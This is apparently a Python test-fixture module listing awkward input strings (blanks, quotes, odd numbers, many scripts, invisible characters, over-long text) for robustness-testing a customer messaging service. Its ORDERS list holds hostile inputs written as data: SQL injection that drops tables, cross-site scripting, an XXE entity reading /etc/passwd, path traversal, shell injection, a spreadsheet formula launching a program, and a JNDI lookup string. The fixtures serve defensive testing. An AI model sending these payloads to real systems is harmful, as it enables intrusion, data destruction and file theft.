"""Strings that programs have stumbled over, in our own selection: each is something that a customer may well send."""

from __future__ import annotations

from collections.abc import Iterator

BLANKS = [
    "", " ", "  ", "\t", "\n", "\r", "\r\n", "\v", "\f", " a", "a ", " a ", "\ta\t", "a\nb", "a\r\nb", "a\rb",
    "\n\na\n\n", "\u00a0", "\u2003", "\u3000", "\u1680", "\u205f", "\u2028", "\u2029", "\u0085", "a\u2028b",
    "a\u00a0b", "a" + " " * 200,
]  # fmt: skip
"""Nothing, or what looks like it."""

QUOTES = [
    "'", '"', "''", '""', "`", "\\", "\\\\", "'\"`", "\\'", '\\"', "O'Brien", 'say "no"', "«so»", "„so“", "‚so‘",
    "it’s", "\\n", "\\x41", "\\u0041", "\\0", "%", "%%", "a\\", "$", "$$", "$1", "${x}", "#{x}", "{x}", "{0}",
    "{{x}}", "<%= x %>", "@x", "#x", "&x", "&amp;", "&#65;", "a;b", "a|b", "a&b", "$(x)", "`x`", "~", "*", "?", "[a]",
    "!a", "^a", "|", "-", "--",
]  # fmt: skip
"""What stands for something else in some language or other."""

ORDERS = [
    "x' OR 'a'='a", "x'; DROP TABLE views.inbox_v1; --", '"; SELECT pg_sleep(9); --',
    "1); DELETE FROM antiphon.log; --", "'||(SELECT version())||'", "$$; COMMIT; $$", "E'\\x41'", "%(id)s", "%s",
    "%b", ":id", "?1", "COPY log TO '/tmp/a'", "<script>alert(1)</script>", "<b>bold</b>",
    "<img src=x onerror=alert(1)>", "</textarea><p>", "<!-- x", "]]>", '"><svg/onload=alert(1)>',
    "javascript:alert(1)", "data:text/html,<b>a</b>", "<?xml version='1.0'?>", "<!DOCTYPE a>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "<style>*{display:none}</style>",
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\CON", "file:///etc/hosts", "//host/share", ".", "..",
    "/", "//", "; ls -la", "| cat /etc/passwd", "$(reboot)", "&& true", "\n/bin/sh", "-rf", "--help", "=1+1",
    "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "${jndi:ldap://host.invalid/a}", "{{7*7}}", "{% x %}", "<%= 7*7 %>",
    "#{7*7}", "__proto__", "constructor", "toString", "%n%n%n%n", "%x%x", "%99999d", "{0.__class__}",
    "*)(uid=*))(|(uid=*", "Content-Length: 0\r\n\r\nGET / HTTP/1.1", "a\r\nSet-Cookie: b=c", "%00", "%0a", "%0d%0a",
    "%2e%2e%2f", "%2F", "%25", "%u0041", "%C0%AF", "%zz", "%", "+", "a+b", "a%20b", "?a=b", "#a", "a&b=c", ";a=b",
]  # fmt: skip
"""What somebody might obey."""

VALUES = [
    "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "True", "yes", "no",
    "on", "[object Object]", "0", "-0", "00", "007", "1", "-1", "1.0", "1,0", "1e3", "1E999", "0x1F", "0b1", "0o7",
    "1_000", "1'000", "١٢٣", "１２３", "Ⅻ", "½", "9007199254740993", "2147483648", "-2147483649", "9223372036854775808",
    "18446744073709551616", "9" * 400, "0." + "0" * 300 + "1", "1970-01-01", "0000-00-00", "2026-02-30",
    "9999-12-31T23:59:60Z", "-infinity", "infinity", "now", "epoch", "24:00", "2026-W53-7", "{}", "[]", '{"a":1}',
    '{"a":', "[[[[", '"a"', "{a}", "{1,2}", "(1,2)", "\\N", "00000000-0000-0000-0000-000000000000", "conversation-1",
    "customer-", "[erased]", "erased", "system", "admin", "a@b", "a@b@c", "Bearer a",
    "0190a0a0-0000-7000-8000-000000000000",
]  # fmt: skip
"""What looks like something that is no text."""

SCRIPTS = [
    "é", "e\u0301", "ﬁ", "ß", "ẞ", "SS", "İ", "ı", "i̇", "Å", "Å", "ǅ", "ς", "Σ", "ὀδυσσεύς", "Привет", "раypal",
    "аdmin", "ΑΒΓ", "ｆｕｌｌ", "日本語", "简体", "繁體", "한국어", "한국", "ไทยไม่มีช่องว่าง", "தமிழ்", "हिन्दी", "বাংলা",
    "မြန်မာ",
    "ကို", "ខ្មែរ", "ʻOkina", "Zürich", "smörgåsbord", "مرحبا", "مُشَكَّل", "שלום", "שָׁלוֹם", "abc שלום def",
    "العربية 123 abc", "﷽", "ﷺ", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "𝟙𝟚𝟛", "ⓐⓑⓒ", "🅐", "㎞", "℃", "№", "™", "…",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 10,
    "Z\u0351\u036b\u0343a\u0328\u0321l\u0334\u034dg\u0322\u0352o\u035c\u0360", "\u0301", "\u20dd", "😀", "👩‍🚀",
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "🇩", "👍🏽", "🏽", "❤️", "❤︎", "1️⃣",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "😀" * 100, "¯\\_(ツ)_/¯", "(╯°□°）╯︵ ┻━┻",
    "ಠ_ಠ",
    "✓", "☃", "𓀀", "𠜎", "\U0001f9ff", "꧁꧂", "☭", "\ue000", "\uf8ff", "\U000f0000", "\U0010fffd",
]  # fmt: skip
"""What people write, in many ways of writing."""

UNSEEN = [
    "\u200b", "a\u200bb", "\u200c", "\u200d", "\u2060", "\ufeff", "\ufeffa", "a\ufeff", "\u00ad", "a\u00adb",
    "\u034f", "\u061c", "\u180e", "\u200e", "\u200f", "a\u200fb", "\u202aa", "\u202ba", "\u202ca", "\u202da",
    "\u202ea", "\u2066a", "\u2067a", "\u2068a", "\u2069a", "invoice\u202efdp.exe", "\u202eabc\u202c",
    "\u2067\u2066a\u2069", "\u2061", "\u206a", "\ufff9a\ufffab\ufffb", "\ufffc", "\ufffd", "\ufe0f", "\U000e0001",
    "\U000e0041", "\U000e0100", "\u115f", "\u3164", "\uffa0", "\u2800", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff",
    "\U0010ffff", *map(chr, [1, 2, 4, 7, 8, 14, 15, 16, 26, 27, 28, 31, 127, 128, 155, 159]), "\x1b[31mred\x1b[0m",
    "\x1b]0;a\x07", "a\x08b",
]  # fmt: skip
"""What is there and does not show, or shows something else."""

LONG = [
    "a" * 199,
    "a" * 200,
    "a" * 201,
    "é" * 500,
    "😀" * 501,
    "a" * 2_000,
    "a" * 2_001,
    "word " * 3_000,
    "(" * 1_000,
    "\u0301" * 1_500,
]
"""About as long as fields are, and longer."""

NOT_TEXT = [
    "\x00", "a\x00b", "a\x00", "\ud800", "\udc00", "\udfff", "a\ud83d", "\ude00a", "\ude00\ud83d", "\ud800\ud800",
    "\x00\ud800", "\udc80",
]  # fmt: skip
"""What PostgreSQL or UTF-8 has no place for."""

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys([*BLANKS, *QUOTES, *ORDERS, *VALUES, *SCRIPTS, *UNSEEN, *LONG, *NOT_TEXT])
)


def fitting(most: int | None, least: int = 0) -> Iterator[str]:
    """Those that a field of this length takes."""
    for text in STRINGS:
        if text not in NOT_TEXT and least <= len(text) <= (most or len(text)):
            yield text
